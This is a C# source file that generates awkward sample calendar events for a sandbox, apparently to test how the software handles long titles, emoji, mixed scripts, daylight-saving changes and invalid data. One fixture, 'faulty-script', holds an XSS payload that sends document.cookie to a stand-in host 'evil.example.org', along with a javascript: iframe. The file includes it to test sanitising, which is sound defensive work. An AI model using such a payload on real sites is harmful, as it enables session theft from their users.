namespace Relay.Sandbox.Party;

/// <summary>The events that break careless software, and four that are wrong: no title, an end before the start, a zone that does not exist, hostile HTML.</summary>
internal sealed class AwkwardEvents(DateTimeOffset now)
{
    private const string LongTitle =
        "Assemblée générale extraordinaire et néanmoins conviviale des comités de l’agglomération, suivie d’une table ronde sur les mobilités, d’un temps d’échange avec les "
        + "associations de riverains, de la remise des travaux de la commission « Vivre et travailler au pays », d’un buffet préparé par les producteurs du marché et d’un concert de clôture";

    private readonly EventWriter _calendar = new(now, new Random(0));

    public IEnumerable<EventRow> All() => [.. Sound(), .. Clock(), .. Faulty()];

    private IEnumerable<EventRow> Sound() =>
    [
        Row("long-title", "Bordeaux", 3, 18) with { Title = LongTitle, Body = string.Concat(Enumerable.Repeat("<p>Chaque point de l’ordre du jour sera présenté en cinq minutes, puis discuté.</p>", 80)) },
        Row("emoji", "Saint-Denis", 4, 10) with { Title = "🎉🌳 Fête des familles 👩‍👩‍👧‍👦 : jeux, goûter et arbres à planter 👍🏽 🇷🇪" },
        Row("quotes", "Lille", 5, 19) with { Title = "« L’art de dire “non” », l'atelier d'Anaïs : R&D, débats & \"vraies\" réponses <3" },
        Row("private-address", "Grenoble", 4, 19) with
        {
            Title = "Dîner d’équipe du porte-à-porte", Venue = "Chez Claude et Michel", Address = "12 impasse des Lilas, 3e étage, code B4817", PlacePublic = false,
        },
        Row("cancelled", "Libourne", 5, 18) with { Title = "Réunion publique sur la rocade (annulée : salle inondée)", Status = "cancelled" },
        Row("postponed", "Arcachon", 6, 18) with { Title = "Sortie en pinasse avec les ostréiculteurs", Status = "postponed" },
        Row("missing-image", "Bordeaux", 2, 12) with { Title = "Repas de quartier aux Capucins", Image = Sandbox.Pictures.SamplePictures.Count + 1, ImageAlt = "Grande tablée sous la halle du marché." },
        Row("corse-2a", "Ajaccio", 3, 18) with { Title = "A nostra cullettività : réunion publique sur le foncier" },
        Row("corse-2b", "Bastia", 4, 18) with { Title = "Pruvincia d’Italia : balade et débat sur le port" },
        Row("miquelon", "Saint-Pierre (Saint-Pierre-et-Miquelon)", 4, 17) with { Title = "Café de l’archipel : le fret et les prix" },
        Row("marigot", "Marigot", 5, 17) with { Title = "Reconstruire Marigot : où en est-on ?" },
        Row("wallis", "Mata-Utu", 6, 16) with { Title = "Fono des jeunes : se former au pays" },
        Row("marquesas", "Papeete", 5, 17) with { Title = "Rencontre à Taiohae : la desserte des Marquises", Zone = "Pacific/Marquesas", Venue = "Maison commune", Address = "Front de mer, Taiohae" },
        Row("scripts", "Strasbourg", 7, 15) with { Title = "Rencontre des langues : 日本語, العربية, Ελληνικά, עברית et brezhoneg", Summary = "Zażółć gęślą jaźń, ﬁn, e\u0301té, à vos accents !" },
        Row("links", "Nantes", 6, 18) with { Title = "Budget 2030.fr : tout sur www.example.org et nos votes" },
        Row("entities", "Dijon", 7, 18) with { Title = "Fête &amp; forum des associations", Body = "<p>Un &lt;grand&gt; moment&nbsp;: 50&nbsp;% de rires &amp; 50&nbsp;% d’idées.</p><p><br></p><table><tr><td>10 h</td><td>accueil</td></tr></table>" },
        Row("bare", "Amiens", 8, 18) with { Title = "Réunion du comité", Summary = null, Body = null, Venue = null, Address = null, Url = null, Ends = null, Themes = "" },
        Row("full", "Paris 11e", 3, 19) with { Title = "Soirée des bénévoles (complet)", Capacity = 5, Registrations = 9 },
    ];

    private IEnumerable<EventRow> Clock()
    {
        var change = NextChange("Europe/Paris");
        var gap = change.Month == 3;
        return
        [
            Row("dst-night", "Lyon 7e", 0, 0) with { Title = "Nuit blanche du changement d’heure", Starts = change.AddMinutes(-30), Ends = change.AddHours(4).AddMinutes(30) },
            Row("dst-hour", "Toulouse", 0, 0) with { Title = gap ? "Petit déjeuner de l’heure perdue" : "Veillée de l’heure qui revient", Starts = change.AddHours(gap ? 3 : 2).AddMinutes(30), Ends = change.AddHours(6) },
            Row("midnight", "Villeurbanne", 2, 0) with { Title = "Collage de minuit", Ends = _calendar.Today("Europe/Paris").AddDays(2).AddHours(3) },
            Row("whole-day", "Annecy", 9, 0) with { Title = "Vingt-quatre heures pour le lac", Ends = _calendar.Today("Europe/Paris").AddDays(10) },
            Row("two-days", "Clermont-Ferrand", 12, 9) with { Title = "Week-end d’été des jeunes volcans", Ends = _calendar.Today("Europe/Paris").AddDays(13).AddHours(17) },
            Row("soon", "Nouméa", 0, 0) with { Title = "Point presse de rentrée", Starts = Local("Pacific/Noumea").AddHours(3), Ends = Local("Pacific/Noumea").AddHours(4) },
            Row("running", "Marseille 5e", 0, 0) with { Title = "Stand d’accueil sur le Cours", Starts = Local("Europe/Paris").AddHours(-1), Ends = Local("Europe/Paris").AddHours(5) },
        ];
    }

    private IEnumerable<EventRow> Faulty() =>
    [
        Row("faulty-title", "Orléans", 5, 18) with { Title = "   " },
        Row("faulty-end", "Le Mans", 5, 18) with { Title = "Ciné-débat au Mans", Ends = _calendar.Today("Europe/Paris").AddDays(5).AddHours(16) },
        Row("faulty-zone", "Le Port", 5, 18) with { Title = "Réunion publique au Port", Zone = "Indian/Le_Port" },
        Row("faulty-script", "Rennes", 6, 14) with
        {
            Title = "Atelier théâtre de rue <script>alert('bonjour')</script>",
            Body = "<p>Venez !</p><script>fetch('https://evil.example.org/?c=' + document.cookie)</script><iframe src=\"javascript:alert(1)\"></iframe>",
        },
    ];

    private EventRow Row(string id, string town, int days, int hour)
    {
        var place = Place.Named(town);
        var starts = _calendar.Today(place.Zone).AddDays(days).AddHours(hour);
        return new EventRow
        {
            Id = "evt-" + id,
            Town = place,
            Title = id,
            Summary = $"Un rendez-vous de la section {place.Section}.",
            Body = "<p>Ouvert à toutes et à tous.</p><ul><li>accueil</li><li>échanges</li><li>verre de l’amitié</li></ul>",
            Starts = starts,
            Ends = starts.AddHours(2),
            Zone = place.Zone,
            Venue = "Maison des associations",
            Address = "1 place de la Mairie",
            Territory = place.Territory,
            Url = $"https://tilleul.example.org/agenda/evt-{id}",
            Themes = "démocratie",
            Created = now.AddDays(-9),
            Updated = now.AddDays(-2),
        };
    }

    private DateTime Local(string zone)
    {
        var local = TimeZoneInfo.ConvertTime(now, TimeZoneInfo.FindSystemTimeZoneById(zone)).DateTime;
        return local.AddTicks(-(local.Ticks % TimeSpan.FromMinutes(5).Ticks));
    }

    /// <summary>The next day on which a zone's clocks change, at 00:00.</summary>
    private DateTime NextChange(string zone)
    {
        var rules = TimeZoneInfo.FindSystemTimeZoneById(zone);
        var day = _calendar.Today(zone).AddDays(1);
        while (rules.GetUtcOffset(day) == rules.GetUtcOffset(day.AddDays(1)))
        {
            day = day.AddDays(1);
        }
        return day;
    }
}
